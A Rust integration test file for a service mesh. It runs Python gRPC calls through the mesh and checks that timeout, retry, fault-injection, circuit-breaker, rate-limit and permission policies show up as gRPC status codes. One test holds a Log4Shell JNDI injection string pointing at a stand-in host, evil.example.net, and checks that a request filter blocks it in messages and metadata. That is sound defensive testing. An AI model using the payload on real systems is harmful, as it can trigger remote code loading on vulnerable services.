//! gRPC in another language (Python's grpcio) through the mesh: each kind of call, and each policy in gRPC's own terms.

use crate::policies::EVERYTHING;
use anyhow::{Context, Result, ensure};
use meridian_testkit::mesh::{Backing, Mesh, Proxy, START, Workload};
use meridian_testkit::process::Process;
use meridian_testkit::wait::{DEADLINE, until};

/// Debian's, whose packages grpcio is one of.
const PYTHON: &str = "/usr/bin/python3";
const TARGET: &str = "echo.mesh:8080";

struct Client {
    proxy: Proxy,
    script: String,
}

impl Client {
    async fn call(&self, method: &str, message: &str, metadata: &[&str]) -> Result<String> {
        let words = [&[PYTHON, self.script.as_str(), TARGET, method, message], metadata].concat();
        Ok(self.proxy.app(&words).await?.1.trim_end().to_owned())
    }

    /// Calls until what was said begins so.
    async fn says(&self, method: &str, message: &str, start: &str) -> Result<String> {
        until("a gRPC call to end as it should", DEADLINE, async || {
            let said = self.call(method, message, &[]).await?;
            ensure!(said.starts_with(start), "{method} {message} said: {said}");
            Ok(said)
        })
        .await
    }

    fn begin(&self, method: &str, message: &str) -> Result<Process> {
        self.proxy.spawn_app("grpc-client", &[PYTHON, &self.script, TARGET, method, message])
    }
}

/// A mesh of two zones, a client in one and a server in the other.
async fn start(name: &str) -> Result<(Mesh, Client, Proxy)> {
    let mut mesh = Mesh::start(name, Backing::Sqlite, &["east", "west"]).await?;
    mesh.apply(EVERYTHING).await?;
    let grpc = |name: &str, service: &str| Workload {
        protocol: "grpc".to_owned(),
        app: Vec::new(),
        ..Workload::http(name, service)
    };
    let mut server = mesh.workload("west", &grpc("echo-1", "echo")).await?;
    let script = server.host.write("server.py", include_str!("grpc/server.py"))?.display().to_string();
    let listen = format!("{}:8080", server.host.ip());
    let mut process = server.spawn_app("grpc-server", &[PYTHON, &script, &listen])?;
    process.wait_for_log("listening on", START).await?;
    server.applications.push(process);
    let proxy = mesh.workload("east", &grpc("web-1", "web")).await?;
    let script = proxy.host.write("client.py", include_str!("grpc/client.py"))?.display().to_string();
    let client = Client { proxy, script };
    client.says("Say", "hello", "OK hello").await?;
    Ok((mesh, client, server))
}

fn policy(kind: &str, name: &str, spec: &str) -> String {
    format!("type: {kind}\nmesh: default\nname: {name}\nspec:\n  targetRef: {{kind: Mesh}}\n  {spec}\n")
}

#[tokio::test]
async fn calls_of_every_kind_and_a_stream_that_outlives_changes() -> Result<()> {
    let (mesh, client, _server) = start("grpc").await?;
    let said = client.says("Say", "hello", "OK hello").await?;
    ensure!(said.contains("server-language=python") && said.contains("server-trailer=last"), "{said}");
    client.says("Fail", "oh", "FAILED_PRECONDITION asked to: oh").await?;
    client.says("Count", "4", "OK 0 1 2 3").await?;
    client.says("Collect", "ab", "OK ab+ab").await?;

    let mut stream = client.begin("Chat", "6")?;
    for (n, timeout) in ["11s", "12s", "13s"].iter().enumerate() {
        let to = format!("to: [{{targetRef: {{kind: Mesh}}, default: {{idleTimeout: {timeout}}}}}]");
        mesh.apply(&policy("MeshTimeout", &format!("idle-{n}"), &to)).await?;
        mesh.apply(&policy("MeshRequestFilter", "log4shell", "rules: [{default: {ruleSets: [log4shell]}}]"))
            .await?;
        client.says("Say", "hello", "OK hello").await?;
    }
    stream.wait(DEADLINE).await?;
    let said = stream.log();
    ensure!(said.contains("OK 60"), "the stream ended with: {said}");
    Ok(())
}

#[tokio::test]
async fn policies_act_on_calls_in_the_terms_of_grpc() -> Result<()> {
    let (mesh, client, _server) = start("grpcpol").await?;

    mesh.apply(&policy(
        "MeshTimeout",
        "a-quick",
        "to: [{targetRef: {kind: Mesh}, default: {http: {requestTimeout: 300ms}}}]",
    ))
    .await?;
    client.says("Slow", "900", "UNAVAILABLE echo did not answer in time").await?;
    client.says("Slow", "1", "OK 1").await?;
    mesh.meridian(&["delete", "meshtimeout", "a-quick"]).await?;
    client.says("Slow", "900", "OK 900").await?;

    // The mesh began with a MeshRetry of its own.
    for _ in 0..4 {
        let said = client.call("Every", "3", &[]).await?;
        ensure!(said.starts_with("OK 3"), "{said}");
    }
    mesh.meridian(&["delete", "meshretry", "mesh-retry-all-default"]).await?;
    client.says("Every", "3", "UNAVAILABLE not this time").await?;
    mesh.apply(&policy(
        "MeshRetry",
        "again",
        "to: [{targetRef: {kind: Mesh}, default: {grpc: {numRetries: 3, retryOn: [Unavailable], backOff: {baseInterval: 1ms}}}}]",
    ))
    .await?;
    until("calls to be repeated", DEADLINE, async || {
        for _ in 0..4 {
            let said = client.call("Every", "3", &[]).await?;
            ensure!(said.starts_with("OK 3"), "{said}");
        }
        Ok(())
    })
    .await?;
    mesh.meridian(&["delete", "meshretry", "again"]).await?;

    mesh.apply(&policy(
        "MeshFaultInjection",
        "broken",
        "rules: [{default: {http: [{abort: {httpStatus: 404, percentage: 100}}]}}]",
    ))
    .await?;
    client.says("Say", "hello", "UNIMPLEMENTED").await?;
    mesh.meridian(&["delete", "meshfaultinjection", "broken"]).await?;
    client.says("Say", "hello", "OK hello").await?;

    let attack = "${${lower:j}ndi:ldap://evil.example.net/a}";
    client.says("Say", attack, "OK").await?;
    mesh.apply(&policy("MeshRequestFilter", "log4shell", "rules: [{default: {ruleSets: [log4shell]}}]"))
        .await?;
    client.says("Say", attack, "PERMISSION_DENIED refused by the mesh: request-filter").await?;
    client.says("Collect", attack, "PERMISSION_DENIED").await?;
    let said = client.call("Say", "hello", &[&format!("x-user={attack}")]).await?;
    ensure!(said.starts_with("PERMISSION_DENIED"), "in the metadata: {said}");
    client.says("Say", "hello", "OK hello").await?;
    mesh.meridian(&["delete", "meshrequestfilter", "log4shell"]).await?;

    let limits = "to: [{targetRef: {kind: Mesh}, default: {connectionLimits: {maxRequests: 1}}}]";
    mesh.apply(&policy("MeshCircuitBreaker", "a-one", limits)).await?;
    client.says("AtOnce", "3", "OK OK UNAVAILABLE UNAVAILABLE").await?;
    mesh.meridian(&["delete", "meshcircuitbreaker", "a-one"]).await?;
    client.says("AtOnce", "3", "OK OK OK OK").await?;

    mesh.apply(
        "type: MeshRateLimit\nmesh: default\nname: few\nspec:\n  targetRef: {kind: Dataplane}\n  rules: [{default: {local: {http: \
         {requestRate: {num: 1, interval: 1h}}}}}]\n",
    )
    .await?;
    client.says("Say", "hello", "UNAVAILABLE").await?;
    mesh.meridian(&["delete", "meshratelimit", "few"]).await?;
    client.says("Say", "hello", "OK hello").await?;

    mesh.meridian(&["delete", "meshtrafficpermission", "everything"]).await?;
    let said = client.says("Say", "hello", "PERMISSION_DENIED").await.context("without a permission")?;
    ensure!(said.contains("no-permission"), "{said}");
    Ok(())
}
